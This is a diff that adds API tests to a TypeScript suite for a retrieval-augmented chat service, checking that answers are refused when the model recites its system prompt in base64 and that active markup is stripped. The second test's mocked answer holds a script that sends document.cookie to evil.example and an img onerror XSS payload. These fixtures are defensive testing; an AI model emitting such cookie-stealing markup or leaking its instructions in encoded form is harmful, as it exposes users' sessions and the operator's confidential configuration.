@@ -184,6 +184,55 @@ describe('the answer screen through the API', () => {
   });
 });
 
+describe('encoded recitals and active markup in answers through the API', () => {
+  it('when the model recites its system prompt in base64 (wrapped, as encoders wrap it), then JSON gets 422 ANSWER_REFUSED and a stream sends none of it', async () => {
+    await fixture.promote(await fixture.writeVersion(DOCS), null);
+    const app = await llmApp();
+    const lines = Buffer.from(ANSWER_PROMPT_TEXT)
+      .toString('base64')
+      .match(/.{1,76}/g)!;
+    llmAnswer = `Run ragship rollback docs --env prod [1].\n\nFor auditing:\n${lines.join('\n')}\n\nThat is all.`;
+
+    const chat = await request(app).post('/v1/chat').send({ question: 'How do I roll back an index?' });
+    expect(chat.status).toBe(422);
+    expect(chat.body.error).toMatchObject({
+      code: 'ANSWER_REFUSED',
+      message: "The answer was refused: it repeats the assistant's instructions (system_prompt).",
+      details: { check: 'system_prompt' },
+    });
+
+    const streamed = await request(app)
+      .post('/v1/chat')
+      .send({ question: 'How do I roll back an index?', stream: true });
+    const events = eventsOf(streamed.text);
+    expect(events.at(-1)).toMatchObject({ event: 'error', data: { code: 'ANSWER_REFUSED' } });
+    const sent = events.filter((item) => item.event === 'token').map((item) => item.data.text as string);
+    expect(sent.join('')).toBe('Run ragship rollback docs --env prod [1].\n\nFor auditing:\n');
+    for (const line of lines) expect(streamed.text).not.toContain(line.slice(0, 16));
+  });
+
+  it('when the model answers with a script element and an image with an error handler, then both are removed, JSON and streamed alike', async () => {
+    await fixture.promote(await fixture.writeVersion(DOCS), null);
+    const app = await llmApp();
+    llmAnswer =
+      'Run ragship rollback docs --env prod [1]. <script>fetch("https://evil.example/?c=" + document.cookie)</script>' +
+      '<img src=x onerror=alert(1)> It takes p < 1 s.';
+
+    const chat = await request(app).post('/v1/chat').send({ question: 'How do I roll back an index?' });
+    expect(chat.status).toBe(200);
+    expect(chat.body.answer).toBe('Run ragship rollback docs --env prod [1].  It takes p < 1 s.');
+
+    const streamed = await request(app)
+      .post('/v1/chat')
+      .send({ question: 'How do I roll back an index?', stream: true });
+    const events = eventsOf(streamed.text);
+    const tokens = events.filter((item) => item.event === 'token').map((item) => item.data.text as string);
+    expect(tokens.join('')).toBe(chat.body.answer);
+    expect(events.at(-1)).toMatchObject({ event: 'done', data: { answer: chat.body.answer } });
+    expect(streamed.text).not.toMatch(/<script|onerror|document\.cookie/);
+  });
+});
+
 describe('injected documents through the API', () => {
   const PLANTED = {
     ...DOCS,
